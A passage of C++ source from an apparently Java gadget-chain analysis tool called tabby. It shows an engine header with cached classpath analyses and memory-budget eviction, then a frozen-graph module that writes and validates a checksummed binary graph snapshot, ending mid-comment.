  /// Prefix the simulated JDK archive to every classpath.
  bool with_jdk = true;
  /// Default representation for opens: freeze (or mmap) the immutable CSR.
  /// The serving default is on; OpenOptions::use_frozen overrides per open.
  bool use_frozen = true;
  /// Invoked (under the engine lock) for every eviction, LRU or explicit:
  /// fingerprint + resident bytes released. The `tabby serve` daemon counts
  /// these as serve.evictions.
  std::function<void(std::uint64_t fingerprint, std::size_t bytes)> on_evict;
};

/// One find() request's result: the finder report plus the degradation view
/// that merges the open-phase report with the finder's partial sinks — every
/// entry point sees the same DegradationReport fields filled the same way.
struct FindResult {
  finder::FinderReport report;
  DegradationReport degradation;
  /// True when the search ran over the frozen CSR representation.
  bool used_frozen = false;
  /// The verify post-pass (ExecContext::verify): one verdict per chain, in
  /// chain order. Untouched (and `verified` false) when verify was off or
  /// the analysis holds no linked program.
  finder::VerifyReport verify;
  bool verified = false;
};

class Engine;

/// One resident classpath analysis. Thread-safe for concurrent find/query
/// (both are const over the graph); obtained from Engine::open and shared.
class Analysis {
 public:
  /// The pipeline outcome backing this analysis (stats, warnings,
  /// degradation, frozen frame / graph store).
  const Outcome& outcome() const { return outcome_; }
  /// Classpath fingerprint (the cache snapshot key); 0 for in-memory opens.
  std::uint64_t fingerprint() const { return fingerprint_; }
  /// Bytes this analysis holds resident (frozen frame + store bytes + graph
  /// estimate) — the unit of the engine's admission control.
  std::size_t resident_bytes() const { return resident_bytes_; }

  /// Gadget-chain search with the CLI's exact orchestration: depth,
  /// deadline folding, deterministic frontier-pool split, frozen/store
  /// dispatch. Fills FindResult::degradation (open-phase units + the
  /// finder's partial_sinks/frontier_pruned) for every caller.
  FindResult find(const ExecContext& ctx) const;

  /// Cypher query over the resident representation (frozen when present).
  /// Row content and order are byte-identical to the one-shot CLI.
  util::Result<cypher::QueryResult> query(std::string_view text,
                                          const ExecContext& ctx) const;

  /// Renders a query result against this analysis' representation — the
  /// exact bytes `tabby query` prints (rows + "(N row(s))" trailer).
  std::string render(const cypher::QueryResult& result) const;

 private:
  friend class Engine;
  Analysis() = default;

  Outcome outcome_;
  std::uint64_t fingerprint_ = 0;
  std::size_t resident_bytes_ = 0;
  util::Executor* executor_ = nullptr;   // borrowed from the engine
  util::MemoryBudget* memory_ = nullptr; // borrowed from the engine
  DistTelemetry* dist_ = nullptr;        // borrowed from the engine
  cache::AnalysisCache* verdict_cache_ = nullptr;  // borrowed from the engine
};

using AnalysisPtr = std::shared_ptr<const Analysis>;

/// Message prefix of structured over-capacity failures (admission control).
inline constexpr const char* kOverCapacityPrefix = "over-capacity: ";

/// True when `error` is an admission-control rejection (the caller should
/// surface it as over-capacity, e.g. the daemon's error kind), not a fault.
bool is_over_capacity(const util::Error& error);

/// Point-in-time engine telemetry (the `stats` op of the serve protocol).
struct EngineStats {
  struct Resident {
    std::uint64_t fingerprint = 0;
    std::size_t bytes = 0;
    std::uint64_t hits = 0;
  };
  /// Resident analyses in most- to least-recently-used order.
  std::vector<Resident> entries;
  std::size_t resident_bytes = 0;
  std::uint64_t opens = 0;
  std::uint64_t resident_hits = 0;
  std::uint64_t evictions = 0;
  std::uint64_t over_capacity = 0;
  std::size_t budget_bytes = 0;  // 0 = ungoverned
  // Worker-pool supervision aggregates (all zero until a --workers find).
  std::uint64_t dist_workers_spawned = 0;
  std::uint64_t dist_respawns = 0;
  std::uint64_t dist_crashes = 0;
  std::uint64_t dist_retries = 0;
  std::uint64_t dist_reassignments = 0;
  std::uint64_t dist_heartbeat_misses = 0;
};

class Engine {
 public:
  explicit Engine(EngineOptions options = {});
  ~Engine();

  Engine(const Engine&) = delete;
  Engine& operator=(const Engine&) = delete;

  /// Opens (or returns the resident) analysis for a classpath of .tjar
  /// files. A resident hit touches the LRU and costs no I/O beyond the
  /// digest reads that key the lookup. A miss runs the full cache-aware
  /// pipeline (pipeline::run) on the engine's pool, then admits the result:
  /// under a bounded budget, idle LRU analyses are evicted to make room and
  /// an analysis that still cannot fit fails with an over-capacity error.
  util::Result<AnalysisPtr> open(const std::vector<std::string>& jar_paths,
                                 const ExecContext& ctx, const OpenOptions& opts = {});

  /// In-memory variant for embedding callers that already hold a linked
  /// program (the examples): builds the CPG on the engine's pool and wraps
  /// it in a non-resident Analysis (no fingerprint, no LRU entry).
  AnalysisPtr open(const jir::Program& program, const ExecContext& ctx = {},
                   const OpenOptions& opts = {});

  /// Evicts one analysis by fingerprint (true when something was resident).
  bool evict(std::uint64_t fingerprint);
  /// Evicts every resident analysis; returns how many were dropped.
  std::size_t evict_all();

  EngineStats stats() const;

  util::Executor* executor() const { return pool_.get(); }
  util::MemoryBudget* memory() const { return budget_.get(); }
  const EngineOptions& options() const { return options_; }

 private:
  struct Entry {
    std::shared_ptr<Analysis> analysis;
    std::uint64_t hits = 0;
    std::list<std::uint64_t>::iterator lru;  // position in lru_ (front = MRU)
  };

  /// Classpath fingerprint: the cache snapshot key (options fingerprint
  /// folded with every archive digest in classpath order). nullopt when any
  /// archive cannot be digested — such opens still run, but are never
  /// resident (the key must describe on-disk bytes exactly).
  std::optional<std::uint64_t> fingerprint_classpath(
      const std::vector<std::string>& jar_paths) const;

  /// Drops `fingerprint` from the map + LRU; caller holds mutex_. Returns
  /// the evicted bytes (0 when absent or still in use).
  std::size_t evict_locked(std::uint64_t fingerprint);
  /// Evicts idle LRU entries until `needed` more bytes fit (or nothing idle
  /// is left); caller holds mutex_.
  void make_room_locked(std::size_t needed);

  EngineOptions options_;
  std::unique_ptr<util::ThreadPool> pool_;
  std::unique_ptr<util::MemoryBudget> budget_;
  /// Verdict-cache handle (cache_dir set and openable; else null). All its
  /// state is on the filesystem, so concurrent finds share it safely.
  std::unique_ptr<cache::AnalysisCache> verdict_cache_;
  /// Shared by every Analysis this engine opens (atomics, no lock).
  mutable DistTelemetry dist_telemetry_;

  mutable std::mutex mutex_;
  std::unordered_map<std::uint64_t, Entry> resident_;
  std::list<std::uint64_t> lru_;  // front = most recently used
  std::size_t resident_bytes_ = 0;
  std::uint64_t opens_ = 0;
  std::uint64_t resident_hits_ = 0;
  std::uint64_t evictions_ = 0;
  std::uint64_t over_capacity_ = 0;
};

}  // namespace tabby::pipeline
