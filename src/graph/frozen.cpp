#include "graph/frozen.hpp"

#include <algorithm>
#include <bit>
#include <cstring>
#include <fstream>
#include <map>
#include <unordered_map>

#include "graph/serialize.hpp"
#include "util/digest.hpp"
#include "util/failpoint.hpp"
#include "util/fs.hpp"

#if defined(__unix__) || defined(__APPLE__)
#define TABBY_FROZEN_HAVE_MMAP 1
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>
#endif

namespace tabby::graph {

// The frame is defined little-endian and the attached views reinterpret its
// arrays in place, so the zero-copy reader requires a little-endian host
// (every supported target). A big-endian port would byte-swap at attach.
static_assert(std::endian::native == std::endian::little,
              "FrozenGraph's zero-copy frame layout requires a little-endian host");

namespace {

using util::Error;
using util::Result;

// The directory is sized by the declared section count (16 stats-less, 17
// with stats); the minimum uses the smaller of the two.
constexpr std::size_t dir_size(std::size_t section_count) {
  return section_count * kFrozenDirEntrySize;
}
constexpr std::size_t kMinFrameSize =
    kFrozenHeaderSize + dir_size(kFrozenSectionCount) + kFrozenChecksumSize;

std::uint64_t align8(std::uint64_t v) { return (v + 7) & ~std::uint64_t{7}; }

// --- Frame writing ----------------------------------------------------------

/// Append-only little-endian buffer with 8-byte alignment control and
/// back-patching — what the ByteWriter (varint, byte-at-a-time) is not.
struct FrameWriter {
  std::vector<std::byte> buf;

  std::size_t size() const { return buf.size(); }
  void raw(const void* p, std::size_t n) {
    if (n == 0) return;
    const auto* b = static_cast<const std::byte*>(p);
    buf.insert(buf.end(), b, b + n);
  }
  void u16(std::uint16_t v) { raw(&v, sizeof v); }
  void u32(std::uint32_t v) { raw(&v, sizeof v); }
  void u64(std::uint64_t v) { raw(&v, sizeof v); }
  void i64(std::int64_t v) { raw(&v, sizeof v); }
  void zeros(std::size_t n) { buf.insert(buf.end(), n, std::byte{0}); }
  void pad8() { zeros(align8(buf.size()) - buf.size()); }
  void patch_u64(std::size_t at, std::uint64_t v) { std::memcpy(buf.data() + at, &v, sizeof v); }
  void patch_u32(std::size_t at, std::uint32_t v) { std::memcpy(buf.data() + at, &v, sizeof v); }
};

// --- Frame reading ----------------------------------------------------------

std::uint64_t rd_u64(std::span<const std::byte> frame, std::size_t at) {
  std::uint64_t v;
  std::memcpy(&v, frame.data() + at, sizeof v);
  return v;
}
std::uint32_t rd_u32(std::span<const std::byte> frame, std::size_t at) {
  std::uint32_t v;
  std::memcpy(&v, frame.data() + at, sizeof v);
  return v;
}
std::uint16_t rd_u16(std::span<const std::byte> frame, std::size_t at) {
  std::uint16_t v;
  std::memcpy(&v, frame.data() + at, sizeof v);
  return v;
}

/// Reinterprets `count` elements of T at `at`. Caller has bounds-checked;
/// alignment holds because every array starts on an 8-byte boundary of an
/// 8-byte-aligned frame.
template <typename T>
std::span<const T> typed_span(std::span<const std::byte> frame, std::uint64_t at,
                              std::uint64_t count) {
  return std::span<const T>(reinterpret_cast<const T*>(frame.data() + at),
                            static_cast<std::size_t>(count));
}

Error frozen_err(std::string msg, std::size_t at = 0) {
  return Error{"frozen graph: " + std::move(msg), at};
}

// --- Column classification --------------------------------------------------

/// Present cells of one property key, in ascending element order.
struct ColumnCells {
  std::vector<std::pair<std::uint32_t, const Value*>> cells;
};

FrozenColumnKind classify(const ColumnCells& col) {
  std::size_t first = std::variant_npos;
  for (const auto& [idx, v] : col.cells) {
    std::size_t alt = v->index();
    if (first == std::variant_npos) {
      first = alt;
    } else if (alt != first) {
      return FrozenColumnKind::Mixed;
    }
  }
  switch (first) {
    case 1:
      return FrozenColumnKind::Bool;
    case 2:
      return FrozenColumnKind::Int;
    case 3:
      return FrozenColumnKind::Real;
    case 4:
      return FrozenColumnKind::Str;
    case 5:
      return FrozenColumnKind::IntList;
    default:
      // Nulls, string lists, or an empty column: the serialized-value blob
      // covers every alternative.
      return FrozenColumnKind::Mixed;
  }
}

void write_column(FrameWriter& w, std::string_view key, const ColumnCells& col, std::uint64_t n) {
  w.u64(key.size());
  w.raw(key.data(), key.size());
  w.pad8();

  FrozenColumnKind kind = classify(col);
  w.u64(static_cast<std::uint64_t>(kind));

  std::uint64_t words = (n + 63) / 64;
  std::vector<std::uint64_t> presence(words, 0);
  for (const auto& [idx, v] : col.cells) presence[idx >> 6] |= std::uint64_t{1} << (idx & 63);
  w.u64(words);
  w.raw(presence.data(), presence.size() * sizeof(std::uint64_t));

  switch (kind) {
    case FrozenColumnKind::Bool: {
      std::vector<std::uint64_t> bits(words, 0);
      for (const auto& [idx, v] : col.cells) {
        if (std::get<bool>(*v)) bits[idx >> 6] |= std::uint64_t{1} << (idx & 63);
      }
      w.raw(bits.data(), bits.size() * sizeof(std::uint64_t));
      break;
    }
    case FrozenColumnKind::Int: {
      std::vector<std::int64_t> vals(n, 0);
      for (const auto& [idx, v] : col.cells) vals[idx] = std::get<std::int64_t>(*v);
      w.raw(vals.data(), vals.size() * sizeof(std::int64_t));
      break;
    }
    case FrozenColumnKind::Real: {
      std::vector<std::uint64_t> vals(n, 0);
      for (const auto& [idx, v] : col.cells) {
        std::uint64_t bits;
        double d = std::get<double>(*v);
        std::memcpy(&bits, &d, sizeof bits);
        vals[idx] = bits;
      }
      w.raw(vals.data(), vals.size() * sizeof(std::uint64_t));
      break;
    }
    case FrozenColumnKind::Str: {
      std::vector<std::uint64_t> offsets(n + 1, 0);
      std::uint64_t total = 0;
      auto cell = col.cells.begin();
      for (std::uint64_t i = 0; i < n; ++i) {
        offsets[i] = total;
        if (cell != col.cells.end() && cell->first == i) {
          total += std::get<std::string>(*cell->second).size();
          ++cell;
        }
      }
      offsets[n] = total;
      w.raw(offsets.data(), offsets.size() * sizeof(std::uint64_t));
      w.u64(total);
      for (const auto& [idx, v] : col.cells) {
        const std::string& s = std::get<std::string>(*v);
        w.raw(s.data(), s.size());
      }
      w.pad8();
      break;
    }
    case FrozenColumnKind::IntList: {
      std::vector<std::uint64_t> offsets(n + 1, 0);
      std::uint64_t total = 0;
      auto cell = col.cells.begin();
      for (std::uint64_t i = 0; i < n; ++i) {
        offsets[i] = total;
        if (cell != col.cells.end() && cell->first == i) {
          total += std::get<std::vector<std::int64_t>>(*cell->second).size();
          ++cell;
        }
      }
      offsets[n] = total;
      w.raw(offsets.data(), offsets.size() * sizeof(std::uint64_t));
      w.u64(total);
      for (const auto& [idx, v] : col.cells) {
        const auto& xs = std::get<std::vector<std::int64_t>>(*v);
        w.raw(xs.data(), xs.size() * sizeof(std::int64_t));
      }
      break;
    }
    case FrozenColumnKind::Mixed: {
      // Per-cell serialized values (graph-store wire encoding).
      std::vector<std::uint64_t> offsets(n + 1, 0);
      util::ByteWriter blob;
      auto cell = col.cells.begin();
      for (std::uint64_t i = 0; i < n; ++i) {
        offsets[i] = blob.size();
        if (cell != col.cells.end() && cell->first == i) {
          write_value(blob, *cell->second);
          ++cell;
        }
      }
      offsets[n] = blob.size();
      w.raw(offsets.data(), offsets.size() * sizeof(std::uint64_t));
      w.u64(blob.size());
      w.raw(blob.data().data(), blob.size());
      w.pad8();
      break;
    }
  }
}

}  // namespace

// --- FrozenColumn -----------------------------------------------------------

std::optional<Value> FrozenColumn::get_value(std::uint64_t i) const {
  if (!has(i)) return std::nullopt;
  switch (kind_) {
    case FrozenColumnKind::Bool:
      return Value{((words_[i >> 6] >> (i & 63)) & 1) != 0};
    case FrozenColumnKind::Int:
      return Value{ints_[i]};
    case FrozenColumnKind::Real: {
      double d;
      std::uint64_t bits = words_[i];
      std::memcpy(&d, &bits, sizeof d);
      return Value{d};
    }
    case FrozenColumnKind::Str:
      return Value{std::string(get_string(i))};
    case FrozenColumnKind::IntList: {
      auto xs = get_intlist(i);
      return Value{std::vector<std::int64_t>(xs.begin(), xs.end())};
    }
    case FrozenColumnKind::Mixed: {
      util::ByteReader in(blob_.subspan(offsets_[i], offsets_[i + 1] - offsets_[i]));
      auto v = read_value(in);
      // Cells were written by write_value into a checksummed frame; a decode
      // failure means a writer bug, reported as absence rather than UB.
      if (!v.ok() || !in.at_end()) return std::nullopt;
      return std::move(v.value());
    }
  }
  return std::nullopt;
}

bool FrozenColumn::mixed_bool(std::uint64_t i) const {
  auto v = get_value(i);
  if (!v.has_value()) return false;
  const bool* b = std::get_if<bool>(&v.value());
  return b != nullptr && *b;
}

std::int64_t FrozenColumn::mixed_int(std::uint64_t i, std::int64_t fallback) const {
  if (kind_ != FrozenColumnKind::Mixed) return fallback;
  auto v = get_value(i);
  if (!v.has_value()) return fallback;
  const std::int64_t* x = std::get_if<std::int64_t>(&v.value());
  return x != nullptr ? *x : fallback;
}

std::string_view FrozenColumn::mixed_string(std::uint64_t i) const {
  if (kind_ != FrozenColumnKind::Mixed || !has(i)) return {};
  auto cell = blob_.subspan(offsets_[i], offsets_[i + 1] - offsets_[i]);
  util::ByteReader in(cell);
  auto tag = in.u8();
  if (!tag.ok() || tag.value() != 4) return {};  // 4 = the string wire tag
  auto len = in.uvarint();
  // write_value stores the chars verbatim after the length, so the cell's
  // tail IS the string — no allocation, same lifetime as the frame.
  if (!len.ok() || in.remaining() != len.value()) return {};
  return std::string_view(reinterpret_cast<const char*>(cell.data()) + in.position(),
                          len.value());
}

// --- Freeze -----------------------------------------------------------------

util::Result<FrozenGraph> FrozenGraph::freeze(const GraphDb& db, std::uint64_t content_key,
                                              util::MemoryBudget* memory, bool with_stats) {
  if (util::failpoint::poll("graph.freeze")) {
    return Error{"failpoint: injected graph freeze failure", 0};
  }

  // Live elements in ascending id order — the graph-store emission order, so
  // freezing a deserialized store reproduces the original freeze bit-exactly.
  std::vector<const Node*> nodes;
  nodes.reserve(db.node_count());
  db.for_each_node([&](const Node& n) { nodes.push_back(&n); });
  std::vector<const Edge*> edges;
  edges.reserve(db.edge_count());
  db.for_each_edge([&](const Edge& e) { edges.push_back(&e); });

  const std::uint64_t n = nodes.size();
  const std::uint64_t m = edges.size();
  if (n > UINT32_MAX || m > UINT32_MAX) {
    return frozen_err("graph exceeds the dense 32-bit id space (" + std::to_string(n) +
                      " nodes, " + std::to_string(m) + " edges)");
  }

  std::unordered_map<NodeId, std::uint32_t> remap;
  remap.reserve(nodes.size());
  for (std::size_t i = 0; i < nodes.size(); ++i) remap[nodes[i]->id] = static_cast<std::uint32_t>(i);

  // Intern labels/types in first-use order of the ascending scans (a pure
  // function of graph content, never of construction history).
  auto intern = [](std::unordered_map<std::string_view, std::uint16_t>& ids,
                   std::vector<std::string_view>& names, std::string_view s) {
    auto it = ids.find(s);
    if (it != ids.end()) return it->second;
    auto id = static_cast<std::uint16_t>(names.size());
    ids.emplace(s, id);
    names.push_back(s);
    return id;
  };
  std::unordered_map<std::string_view, std::uint16_t> label_ids, type_ids;
  std::vector<std::string_view> label_names, type_names;
  std::vector<std::uint16_t> node_label(n);
  for (std::size_t i = 0; i < nodes.size(); ++i) {
    if (label_names.size() > 0xFFFF) return frozen_err("label table exceeds the 16-bit id space");
    node_label[i] = intern(label_ids, label_names, nodes[i]->label);
  }

  struct AdjEntry {
    std::uint16_t type;
    std::uint32_t edge;
    std::uint32_t nbr;
  };
  std::vector<std::vector<AdjEntry>> out_adj(n), in_adj(n);
  std::vector<std::uint32_t> efrom(m), eto(m);
  std::vector<std::uint16_t> etype(m);
  for (std::size_t e = 0; e < edges.size(); ++e) {
    if (type_names.size() > 0xFFFF) {
      return frozen_err("edge-type table exceeds the 16-bit id space");
    }
    std::uint32_t from = remap.at(edges[e]->from);
    std::uint32_t to = remap.at(edges[e]->to);
    std::uint16_t t = intern(type_ids, type_names, edges[e]->type);
    efrom[e] = from;
    eto[e] = to;
    etype[e] = t;
    auto de = static_cast<std::uint32_t>(e);
    out_adj[from].push_back({t, de, to});
    in_adj[to].push_back({t, de, from});
  }
  // Sort each node's adjacency by (type, edge): typed lookups become one
  // binary search, and within a type the ascending edge order *is* GraphDb's
  // insertion-order iteration (the byte-identical-output invariant).
  auto by_type_then_edge = [](const AdjEntry& a, const AdjEntry& b) {
    return a.type != b.type ? a.type < b.type : a.edge < b.edge;
  };
  for (auto& adj : out_adj) std::sort(adj.begin(), adj.end(), by_type_then_edge);
  for (auto& adj : in_adj) std::sort(adj.begin(), adj.end(), by_type_then_edge);

  // Property columns, keyed ascending (std::map order == file order).
  std::map<std::string_view, ColumnCells> node_cols, edge_cols;
  for (std::size_t i = 0; i < nodes.size(); ++i) {
    for (const auto& [key, value] : nodes[i]->props) {
      node_cols[key].cells.emplace_back(static_cast<std::uint32_t>(i), &value);
    }
  }
  for (std::size_t e = 0; e < edges.size(); ++e) {
    for (const auto& [key, value] : edges[e]->props) {
      edge_cols[key].cells.emplace_back(static_cast<std::uint32_t>(e), &value);
    }
  }

  // --- Emit the frame ---
  FrameWriter w;
  w.u32(kFrozenMagic);
  w.u16(kFrozenVersion);
  w.u16(0);
  w.u64(0);  // frame length, patched below
  w.u64(content_key);
  w.u64(n);
  w.u64(m);
  const std::size_t section_count =
      with_stats ? kFrozenSectionCountWithStats : kFrozenSectionCount;
  w.u64(section_count);
  const std::size_t dir_at = w.size();
  w.zeros(dir_size(section_count));

  std::uint32_t next_id = 0;
  std::size_t section_start = 0;
  auto begin_section = [&] {
    w.pad8();
    section_start = w.size();
  };
  auto end_section = [&] {
    w.pad8();
    std::size_t entry = dir_at + next_id * kFrozenDirEntrySize;
    w.patch_u32(entry, next_id + 1);  // ids are 1-based
    w.patch_u64(entry + 8, section_start);
    w.patch_u64(entry + 16, w.size() - section_start);
    ++next_id;
  };
  auto string_table = [&](const std::vector<std::string_view>& names) {
    begin_section();
    w.u64(names.size());
    std::uint64_t total = 0;
    for (std::string_view s : names) {
      w.u64(total);
      total += s.size();
    }
    w.u64(total);
    for (std::string_view s : names) w.raw(s.data(), s.size());
    end_section();
  };
  auto raw_section = [&](const void* p, std::size_t bytes) {
    begin_section();
    w.raw(p, bytes);
    end_section();
  };
  auto csr_sections = [&](const std::vector<std::vector<AdjEntry>>& adj) {
    std::vector<std::uint64_t> offsets(n + 1, 0);
    std::vector<std::uint32_t> nbr(m), edge(m);
    std::vector<std::uint16_t> type(m);
    std::uint64_t at = 0;
    for (std::uint64_t i = 0; i < n; ++i) {
      offsets[i] = at;
      for (const AdjEntry& a : adj[i]) {
        nbr[at] = a.nbr;
        edge[at] = a.edge;
        type[at] = a.type;
        ++at;
      }
    }
    offsets[n] = at;
    raw_section(offsets.data(), offsets.size() * sizeof(std::uint64_t));
    raw_section(nbr.data(), nbr.size() * sizeof(std::uint32_t));
    raw_section(edge.data(), edge.size() * sizeof(std::uint32_t));
    raw_section(type.data(), type.size() * sizeof(std::uint16_t));
  };
  auto prop_sections = [&](const std::map<std::string_view, ColumnCells>& cols,
                           std::uint64_t count) {
    begin_section();
    w.u64(cols.size());
    for (const auto& [key, col] : cols) write_column(w, key, col, count);
    end_section();
  };

  string_table(label_names);                                            // 1
  string_table(type_names);                                             // 2
  raw_section(node_label.data(), node_label.size() * sizeof(std::uint16_t));  // 3
  csr_sections(out_adj);                                                // 4..7
  csr_sections(in_adj);                                                 // 8..11
  raw_section(efrom.data(), efrom.size() * sizeof(std::uint32_t));      // 12
  raw_section(eto.data(), eto.size() * sizeof(std::uint32_t));          // 13
  raw_section(etype.data(), etype.size() * sizeof(std::uint16_t));      // 14
  prop_sections(node_cols, n);                                          // 15
  prop_sections(edge_cols, m);                                          // 16
  if (with_stats) {                                                     // 17
    util::ByteWriter stats;
    encode_stats(stats, db.cardinality());
    std::vector<std::byte> stats_payload = stats.take();
    begin_section();
    w.u64(stats_payload.size());
    w.raw(stats_payload.data(), stats_payload.size());
    end_section();
  }

  w.patch_u64(8, w.size() + kFrozenChecksumSize);
  w.u64(util::fnv1a(std::span<const std::byte>(w.buf)));

  std::vector<std::byte> bytes = std::move(w.buf);
  std::span<const std::byte> frame(bytes);
  return attach(frame, std::move(bytes), nullptr, memory);
}

// --- Attach (validate + wire views) -----------------------------------------

util::Result<FrozenGraph> FrozenGraph::attach(std::span<const std::byte> frame,
                                              std::vector<std::byte> storage,
                                              std::shared_ptr<void> mapping,
                                              util::MemoryBudget* memory) {
  if ((reinterpret_cast<std::uintptr_t>(frame.data()) & 7) != 0) {
    return frozen_err("frame storage is not 8-byte aligned");
  }
  if (frame.size() < kMinFrameSize) {
    return frozen_err("truncated: " + std::to_string(frame.size()) +
                          " byte(s), smaller than the fixed header",
                      frame.size());
  }
  if (rd_u32(frame, 0) != kFrozenMagic) {
    return frozen_err("not a tabby frozen graph (bad magic)");
  }
  std::uint16_t version = rd_u16(frame, 4);
  if (version != kFrozenVersion) {
    return frozen_err("unsupported frozen snapshot version " + std::to_string(version) +
                          " (this build reads version " + std::to_string(kFrozenVersion) + ")",
                      4);
  }
  std::uint64_t declared = rd_u64(frame, 8);
  if (declared != frame.size()) {
    return frozen_err("truncated or oversized: header declares " + std::to_string(declared) +
                          " byte(s) but " + std::to_string(frame.size()) + " are present",
                      8);
  }
  std::uint64_t stored_sum = rd_u64(frame, frame.size() - kFrozenChecksumSize);
  std::uint64_t actual_sum = util::fnv1a(frame.first(frame.size() - kFrozenChecksumSize));
  if (stored_sum != actual_sum) {
    return frozen_err("checksum mismatch (corrupt or tampered snapshot): expected " +
                          util::digest_hex(stored_sum) + ", computed " +
                          util::digest_hex(actual_sum),
                      frame.size() - kFrozenChecksumSize);
  }

  FrozenGraph g;
  g.content_key_ = rd_u64(frame, 16);
  std::uint64_t n = rd_u64(frame, 24);
  std::uint64_t m = rd_u64(frame, 32);
  std::uint64_t section_count = rd_u64(frame, 40);
  if (section_count != kFrozenSectionCount && section_count != kFrozenSectionCountWithStats) {
    return frozen_err("bad section count " + std::to_string(section_count), 40);
  }
  if (frame.size() < kFrozenHeaderSize + dir_size(section_count) + kFrozenChecksumSize) {
    return frozen_err("truncated: frame too small for its section directory", 40);
  }
  if (n > UINT32_MAX || m > UINT32_MAX) {
    return frozen_err("node/edge count exceeds the dense 32-bit id space", 24);
  }
  g.node_count_ = static_cast<std::size_t>(n);
  g.edge_count_ = static_cast<std::size_t>(m);

  // Directory: ids 1..count in order, sections 8-aligned, in-bounds,
  // non-overlapping and ascending.
  struct Section {
    std::uint64_t off = 0;
    std::uint64_t len = 0;
  };
  std::vector<Section> sections(section_count);
  const std::uint64_t body_end = frame.size() - kFrozenChecksumSize;
  std::uint64_t prev_end = kFrozenHeaderSize + dir_size(section_count);
  for (std::size_t i = 0; i < section_count; ++i) {
    std::size_t entry = kFrozenHeaderSize + i * kFrozenDirEntrySize;
    std::uint32_t id = rd_u32(frame, entry);
    if (id != i + 1) {
      return frozen_err("directory entry " + std::to_string(i) + " has id " + std::to_string(id),
                        entry);
    }
    std::uint64_t off = rd_u64(frame, entry + 8);
    std::uint64_t len = rd_u64(frame, entry + 16);
    if ((off & 7) != 0 || off < prev_end || len > body_end - off) {
      return frozen_err("section " + std::to_string(id) + " out of bounds", entry);
    }
    sections[i] = {off, len};
    prev_end = off + len;
  }

  // --- String tables ---
  auto parse_table = [&](const Section& s, const char* what,
                         StringTable& table) -> util::Status {
    if (s.len < 8) return frozen_err(std::string(what) + " table truncated", s.off);
    std::uint64_t count = rd_u64(frame, s.off);
    if (count > 0x10000) return frozen_err(std::string(what) + " table count out of range", s.off);
    std::uint64_t head = 8 + (count + 1) * 8;
    if (s.len < head) return frozen_err(std::string(what) + " table truncated", s.off);
    auto offsets = typed_span<std::uint64_t>(frame, s.off + 8, count + 1);
    if (offsets[0] != 0) return frozen_err(std::string(what) + " table offsets corrupt", s.off);
    for (std::uint64_t i = 1; i <= count; ++i) {
      if (offsets[i] < offsets[i - 1]) {
        return frozen_err(std::string(what) + " table offsets not monotonic", s.off);
      }
    }
    if (offsets[count] > s.len - head) {
      return frozen_err(std::string(what) + " table blob out of bounds", s.off);
    }
    table.count = count;
    table.offsets = offsets;
    table.chars = typed_span<char>(frame, s.off + head, offsets[count]);
    return util::Status::ok_status();
  };
  if (auto st = parse_table(sections[kSecNodeLabels - 1], "label", g.label_table_); !st.ok()) {
    return st.error();
  }
  if (auto st = parse_table(sections[kSecEdgeTypes - 1], "edge-type", g.type_table_); !st.ok()) {
    return st.error();
  }

  // --- Fixed-width arrays ---
  auto fixed = [&](std::uint32_t id, std::uint64_t count,
                   std::uint64_t elem) -> Result<std::uint64_t> {
    const Section& s = sections[id - 1];
    if (s.len < count * elem) {
      return frozen_err("section " + std::to_string(id) + " truncated", s.off);
    }
    return s.off;
  };
  auto span_u16 = [&](std::uint32_t id, std::uint64_t count) -> Result<std::span<const std::uint16_t>> {
    auto off = fixed(id, count, 2);
    if (!off.ok()) return off.error();
    return typed_span<std::uint16_t>(frame, off.value(), count);
  };
  auto span_u32 = [&](std::uint32_t id, std::uint64_t count) -> Result<std::span<const std::uint32_t>> {
    auto off = fixed(id, count, 4);
    if (!off.ok()) return off.error();
    return typed_span<std::uint32_t>(frame, off.value(), count);
  };
  auto span_u64 = [&](std::uint32_t id, std::uint64_t count) -> Result<std::span<const std::uint64_t>> {
    auto off = fixed(id, count, 8);
    if (!off.ok()) return off.error();
    return typed_span<std::uint64_t>(frame, off.value(), count);
  };

  {
    auto s = span_u16(kSecNodeLabelIds, n);
    if (!s.ok()) return s.error();
    g.node_label_ids_ = s.value();
    for (std::uint16_t id : g.node_label_ids_) {
      if (id >= g.label_table_.count) return frozen_err("node label id out of range");
    }
  }
  auto load_csr = [&](std::uint32_t base, std::span<const std::uint64_t>& offsets,
                      std::span<const std::uint32_t>& nbr, std::span<const std::uint32_t>& edge,
                      std::span<const std::uint16_t>& type) -> util::Status {
    auto so = span_u64(base, n + 1);
    if (!so.ok()) return so.error();
    offsets = so.value();
    if (offsets[0] != 0 || offsets[n] != m) return frozen_err("adjacency offsets corrupt");
    for (std::uint64_t i = 1; i <= n; ++i) {
      if (offsets[i] < offsets[i - 1]) return frozen_err("adjacency offsets not monotonic");
    }
    auto sn = span_u32(base + 1, m);
    if (!sn.ok()) return sn.error();
    nbr = sn.value();
    auto se = span_u32(base + 2, m);
    if (!se.ok()) return se.error();
    edge = se.value();
    auto st = span_u16(base + 3, m);
    if (!st.ok()) return st.error();
    type = st.value();
    for (std::uint64_t i = 0; i < m; ++i) {
      if (nbr[i] >= n || edge[i] >= m || type[i] >= g.type_table_.count) {
        return frozen_err("adjacency entry out of range");
      }
    }
    // Per-node (type, edge) strict ordering: what typed binary search and
    // the insertion-order fast path rely on.
    for (std::uint64_t i = 0; i < n; ++i) {
      for (std::uint64_t k = offsets[i] + 1; k < offsets[i + 1]; ++k) {
        bool ordered = type[k - 1] != type[k] ? type[k - 1] < type[k] : edge[k - 1] < edge[k];
        if (!ordered) return frozen_err("adjacency not sorted by (type, edge)");
      }
    }
    return util::Status::ok_status();
  };
  if (auto st = load_csr(kSecOutOffsets, g.out_offsets_, g.out_nbr_, g.out_edge_, g.out_type_);
      !st.ok()) {
    return st.error();
  }
  if (auto st = load_csr(kSecInOffsets, g.in_offsets_, g.in_nbr_, g.in_edge_, g.in_type_);
      !st.ok()) {
    return st.error();
  }
  {
    auto sf = span_u32(kSecEdgeFrom, m);
    if (!sf.ok()) return sf.error();
    g.edge_from_ = sf.value();
    auto st = span_u32(kSecEdgeTo, m);
    if (!st.ok()) return st.error();
    g.edge_to_ = st.value();
    auto sy = span_u16(kSecEdgeType, m);
    if (!sy.ok()) return sy.error();
    g.edge_type_ = sy.value();
    for (std::uint64_t e = 0; e < m; ++e) {
      if (g.edge_from_[e] >= n || g.edge_to_[e] >= n || g.edge_type_[e] >= g.type_table_.count) {
        return frozen_err("edge endpoint out of range");
      }
    }
    // Cross-check adjacency against the edge table: every out/in entry must
